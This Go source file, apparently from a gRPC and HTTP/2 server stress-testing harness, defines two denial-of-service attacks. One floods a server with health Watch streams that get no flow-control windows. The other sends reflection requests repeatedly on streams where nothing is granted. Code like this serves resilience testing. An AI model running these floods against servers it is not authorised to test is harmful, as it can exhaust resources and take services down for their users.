package main

// serviceAttacks are on services of gRPC that any server may have: its health, and what it serves.
func serviceAttacks() []*attack {
	head := func(path string) []byte {
		b := h2Text([]byte{0x83, 0x86, 0x04}, path)
		return append(h2Text(append(b, 0x0f, 0x10), "application/grpc"), h2Field(h2Plain, "te", "trailers")...)
	}
	const watch, reflect = "/grpc.health.v1.Health/Watch", "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
	const service = "limosa.bench.echo.Echo"
	ask := grpcMessage(len(service)+2, append([]byte{4<<3 | 2, byte(len(service))}, service...)) // file_containing_symbol
	all := []*attack{
		{name: "h2-watchers", why: "1,000 watchers of its health, without windows, on each of 64 connections", bound: oneAddress, run: func(x *attacker) {
			x.h2Times(64, 0, 1000, func(i uint32) []byte {
				return append(h2Frame(h2Headers, h2EndHeaders, odd(i), head(watch)...), h2Frame(h2Data, h2End, odd(i), grpcMessage(0, nil)...)...)
			})
		}},
		{name: "h2-reflection", why: "what it serves, asked for again and again on eight streams, of which nothing is granted", bound: oneAddress, run: func(x *attacker) {
			x.many(8, func(int) {
				c := x.h2Dial(0, h2Frame(h2Headers, h2EndHeaders, 1, head(reflect)...))
				x.repeat(c, func(uint32) []byte { return h2Frame(h2Data, 0, 1, ask...) })
			})
		}},
	}
	for _, a := range all {
		a.grpc = true
	}
	return all
}
